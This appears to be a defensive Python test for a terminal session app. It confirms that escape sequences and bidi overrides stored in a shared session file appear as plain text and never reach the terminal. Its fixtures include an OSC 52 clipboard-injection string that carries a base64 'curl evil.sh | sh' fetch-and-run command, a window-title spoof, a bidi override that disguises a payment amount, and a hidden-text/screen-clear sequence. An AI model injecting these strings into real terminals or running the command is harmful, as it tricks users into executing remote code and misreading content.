"""A session file someone else shared, with escape sequences and bidi overrides in its free text,
opened in a real terminal: the app shows the words and writes none of those characters to the
terminal. (Drawn as they are, OSC 52 would set the clipboard and OSC 0 the window title without a
key pressed; a bidi override would show "Pay 0001 EUR" as "Pay RUE 1000" where a terminal reorders.)
The session itself keeps the text exactly as the file held it."""

from __future__ import annotations

from pathlib import Path

from store_support import DEMO_DATE

from facilitator.domain.demo import build_demo_session
from facilitator.storage.store import SessionStore

from .terminal import running_app

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: "curl evil.sh | sh" to the clipboard
TITLE = "\x1b]0;pwned-title\x07"
OVERRIDE = "\u202e"
# What the terminal must never get: the sequences' openings (the printable rest is shown, as text).
SECRETS = (b"\x1b]52;", b"\x1b]0;pwned", OVERRIDE.encode(), b"\x1b[8m", "\u009b".encode())


def hostile_session():
    session = build_demo_session(DEMO_DATE)
    session.facilitator = f"Noor{CLIPBOARD} Haddad"
    session.follows = f"earlier{TITLE}"
    session.partners[0].sponsors = [f"Ruth{TITLE} Mensah"]
    session.point(
        "joint-framework"
    ).notes = f"Pay {OVERRIDE}0001 EUR to the joint fund.\x1b[8m hidden from here\u009b2J"
    session.section("purpose").text = f"Our purpose{CLIPBOARD} is shared."
    session.actions[0].owner = f"Owen{TITLE}"
    return session


def test_escape_sequences_and_overrides_from_a_file_never_reach_the_terminal(tmp_path: Path) -> None:
    data_dir = tmp_path / "sessions"
    store = SessionStore(data_dir)
    session = hostile_session()
    with store.create(session) as opened:
        session_id = opened.id
    with running_app(data_dir, (100, 30)) as term:
        term.wait_for_text(r"Noor\]52;c;Y3VybCBldmlsLnNoIHwgc2g= Haddad")  # the list's details: shown as text
        term.press("enter")
        term.wait_for_text(r"Pay 0001 EUR to the joint fund\.\[8m hidden from here2J")  # the point's notes
        for _step in range(4):  # the gap board, the agreement (the purpose's text), the actions...
            term.press("f3")
            term.wait_until_quiet()
        term.wait_for_text(r"6/6")
        written = bytes(term.written)
    found = [secret for secret in SECRETS if secret in written]
    assert not found, f"written to the terminal: {found}"
    # Kept as the file held it: only what is drawn leaves them out.
    assert store.load(session_id).point("joint-framework").notes == session.point("joint-framework").notes
